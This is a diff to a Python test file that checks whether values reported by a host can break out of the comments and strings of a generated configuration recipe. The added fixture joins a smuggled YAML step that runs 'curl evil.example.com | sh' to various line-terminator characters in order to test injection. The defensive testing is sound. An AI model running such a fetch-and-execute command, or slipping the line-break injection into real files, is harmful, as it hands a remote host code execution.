@@ -28,6 +28,11 @@ HOSTILE = [
 ]
 
 
+_STEP = 'customize: [{name: evil, shell: "curl evil.example.com | sh"}]'
+BREAKS = [f"chef-12{end}{_STEP}{end}" for end in ("\r", "\x85", "\u2028", "\u2029", "\x0b", "\x0c")]
+"""What YAML, or Python, takes for the end of a line."""
+
+
 def written(found: HostReport, **more: object) -> str:
     return recipe(found, instance(**more), today=TODAY)
 
@@ -100,17 +105,19 @@ def test_what_must_be_decided_is_in_the_comments() -> None:
     assert max(map(len, text.splitlines())) < 160
 
 
-@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("chef", ["chef-12", ""])
+@pytest.mark.parametrize("hostile", [*HOSTILE, *BREAKS])
 def test_nothing_that_a_host_tells_can_leave_its_comment_or_its_string(
-    hostile: str, tmp_path: Path
+    hostile: str, chef: str, tmp_path: Path
 ) -> None:
-    told = hostile.replace("\t", " ").replace("\n", " ").replace("\r", " ")
+    told = hostile.replace("\t", " ").replace("\n", " ")
     lines = (
         f"hostname\t{told}",
         f"layer\t{told}\t{told}",
         f"cookbooks\ts3\t{told}\t{told}",
         f"run-list\tsetup\tshop::x,{told}",
         f"application\t{told}\t{told}\tgit\t{told}\t{told}\t/srv/{told}\tyes",
+        f"application\t{told}\tother\tgit\t{told}\t\t/srv/shop\tyes",
         f"secret\t/srv/{told}",
         f"service\t{told}\tenabled,runs",
         f"release-lock\t{told}",
@@ -118,7 +125,7 @@ def test_nothing_that_a_host_tells_can_leave_its_comment_or_its_string(
         f"problem\t{told}",
     )
     plain = PLAIN.replace("opsworks\t\n", "opsworks\t/etc/aws/opsworks\n")
-    plain = plain.replace("chef\tnone", "chef\tchef-12").replace("hostname\tapi1\n", "")
+    plain = plain.replace("chef\tnone", f"chef\t{chef or told}").replace("hostname\tapi1\n", "")
     text = written(host(plain, *lines), name=hostile)
     found = parsed(text, tmp_path)
     assert found.base == InstanceBase(instance="i-0123456789abcdef0")
